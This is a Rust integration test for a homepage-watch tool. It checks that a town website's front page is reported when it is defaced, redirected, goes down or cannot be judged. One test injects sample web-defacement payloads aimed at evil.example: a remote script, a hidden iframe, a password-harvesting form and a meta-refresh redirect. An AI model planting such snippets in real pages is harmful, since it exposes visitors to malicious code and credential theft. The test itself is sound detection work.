//! The homepage watch end to end: pages that live, get defaced, lead away and go down, over real connections to the testbed.

use std::time::Duration;

use engine::homepage::{Happening, Sight, Standing, Thresholds, Watch, look};
use formats::evidence::{Evidence, Target};
use probe::testbed::{Failure, Https, Page, Testbed, Zone};
use probe::{Budget, Prober, Vantage};

const NOW: i64 = 1_790_000_000;
const TOWN: &str = "kokonotsu.example";

fn town(front: Page) -> Zone {
    Zone::good(TOWN).showing(front)
}

fn living(more: &str) -> Zone {
    town(Page::town("ここのつ町", more))
}

async fn sight(vantage: &Vantage, domain: &str) -> (Sight, Evidence) {
    let prober = Prober::new(vantage.clone(), Budget::default(), 1);
    let mut visit = prober.visit(&Target::new(domain), NOW);
    let seen = visit.settle(look).await;
    (seen, visit.evidence().clone())
}

/// Looks `times` times and gives what happened, with the codes of the reasons.
async fn told(watch: &mut Watch, vantage: &Vantage, times: usize) -> Vec<String> {
    let mut all = Vec::new();
    for _ in 0..times {
        let (seen, evidence) = sight(vantage, TOWN).await;
        // What was kept says the same again, and asks nobody.
        let again = Evidence::read(&serde_json::to_string(&evidence).unwrap()).unwrap();
        assert_eq!(look(&again).unwrap(), seen);
        all.extend(watch.see(&seen, NOW, &Thresholds::default()).into_iter().map(|happening| match happening {
            Happening::Began => "began".to_owned(),
            Happening::Down { reason, .. } => format!("down {}", reason.code),
            Happening::Back => "back".to_owned(),
            Happening::Changed(finding) => format!("changed {}", finding.verdict.reasons[0].code),
            Happening::Returned => "returned".to_owned(),
            Happening::Drifted(finding) => format!("drifted {}", finding.verdict.reasons[0].code),
        }));
    }
    all
}

async fn begun() -> (Testbed, Vantage, Watch) {
    let testbed = Testbed::start(&[living("")], NOW, 7).await.unwrap();
    let vantage = testbed.vantage("test");
    let mut watch = Watch::new(NOW);
    assert_eq!(told(&mut watch, &vantage, 2).await, ["began"]);
    (testbed, vantage, watch)
}

#[tokio::test]
async fn a_page_that_varies_by_itself_is_left_alone_and_a_defaced_one_is_told_once() {
    let (testbed, vantage, mut watch) = begun().await;
    assert_eq!(told(&mut watch, &vantage, 5).await, [""; 0]);
    testbed.change(town(Page::defaced())).unwrap();
    assert_eq!(told(&mut watch, &vantage, 4).await, ["changed homepage-skeleton"]);
    assert_eq!(watch.standing, Standing::Changed);
    testbed.change(living("")).unwrap();
    assert_eq!(told(&mut watch, &vantage, 2).await, ["returned"]);
}

#[tokio::test]
async fn what_is_put_into_a_page_is_found() {
    let (testbed, vantage, mut watch) = begun().await;
    for (more, code) in [
        ("<script src=https://evil.example/a.js></script>", "homepage-script"),
        ("<iframe src=https://evil.example/ width=0></iframe>", "homepage-frame"),
        ("<form action=https://evil.example/><input name=password type=password></form>", "homepage-form"),
        ("<meta http-equiv=refresh content='3;url=https://evil.example/'>", "homepage-refresh"),
    ] {
        testbed.change(living(more)).unwrap();
        assert_eq!(told(&mut watch, &vantage, 3).await, [format!("changed {code}")]);
        testbed.change(living("")).unwrap();
        assert_eq!(told(&mut watch, &vantage, 1).await, ["returned"]);
    }
    testbed.change(living("<p>大雨のため、本日の窓口業務は正午までとします。</p>")).unwrap();
    assert_eq!(told(&mut watch, &vantage, 3).await, ["drifted homepage-text"]);
}

#[tokio::test]
async fn redirects_at_home_are_followed_and_others_are_told() {
    let at_home = town(Page::redirect(302, &format!("https://www.{TOWN}/")));
    let www = Zone::good(format!("www.{TOWN}")).showing(Page::town("ここのつ町", ""));
    let testbed = Testbed::start(&[at_home, www], NOW, 7).await.unwrap();
    let vantage = testbed.vantage("test");
    let mut watch = Watch::new(NOW);
    assert_eq!(told(&mut watch, &vantage, 3).await, ["began"]);
    let (seen, evidence) = sight(&vantage, TOWN).await;
    let Sight::Page(page) = seen else { panic!("{seen:?}") };
    assert_eq!((page.address.as_str(), page.title.as_str()), ("https://www.kokonotsu.example/", "ここのつ町公式ホームページ"));
    assert!(page.certificate.is_some() && !page.addresses.is_empty() && !page.name_servers.is_empty(), "{page:?}");
    // One connection a hop, and few questions.
    assert!(evidence.exchanges.len() <= 5, "{:?}", evidence.exchanges.iter().map(|one| &one.question).collect::<Vec<_>>());
    testbed.change(town(Page::redirect(302, "https://evil.example/"))).unwrap();
    assert_eq!(told(&mut watch, &vantage, 3).await, ["changed homepage-redirect"]);
    // Round and round: the last answer is the page.
    testbed.change(town(Page::redirect(302, &format!("https://{TOWN}/")))).unwrap();
    let (seen, _) = sight(&vantage, TOWN).await;
    assert!(matches!(seen, Sight::Page(page) if page.status == 302));
}

#[tokio::test]
async fn down_is_told_after_two_misses_with_its_reason() {
    let (testbed, mut vantage, mut watch) = begun().await;
    vantage.connect_timeout = Duration::from_millis(300);
    let states = [
        (town(Page::html("x").status(503)), "homepage-server-error"),
        (town(Page::html("x").status(404)), "homepage-gone"),
        (Zone { https: Https::NoHttps, ..living("") }, "homepage-refused"),
        (Zone { https: Https::Down, ..living("") }, "homepage-timeout"),
        (Zone { https: Https::NoAddress, ..living("") }, "homepage-no-address"),
    ];
    for (zone, code) in states {
        testbed.change(zone).unwrap();
        assert_eq!(told(&mut watch, &vantage, 1).await, [""; 0], "{code}");
        assert_eq!(told(&mut watch, &vantage, 2).await, [format!("down {code}")]);
        testbed.change(living("")).unwrap();
        assert_eq!(told(&mut watch, &vantage, 1).await, ["back"]);
    }
}

#[tokio::test]
async fn what_the_watch_point_cannot_tell_counts_for_nothing() {
    let (testbed, mut vantage, mut watch) = begun().await;
    for zone in [town(Page::html("x").status(403)), Zone { failure: Some(Failure::ServFail), ..living("") }] {
        testbed.change(zone).unwrap();
        assert_eq!(told(&mut watch, &vantage, 4).await, [""; 0]);
        let (seen, _) = sight(&vantage, TOWN).await;
        assert!(matches!(&seen, Sight::Unknown(_)) && watch.available(&seen).is_none(), "{seen:?}");
    }
    testbed.change(living("")).unwrap();
    vantage.allow_private = false;
    let (seen, _) = sight(&vantage, TOWN).await;
    assert!(matches!(&seen, Sight::Unknown(reason) if reason.code == "address-refused"), "{seen:?}");
    assert!(matches!(sight(&vantage, "10.0.0.1").await.0, Sight::Unknown(_)));
}
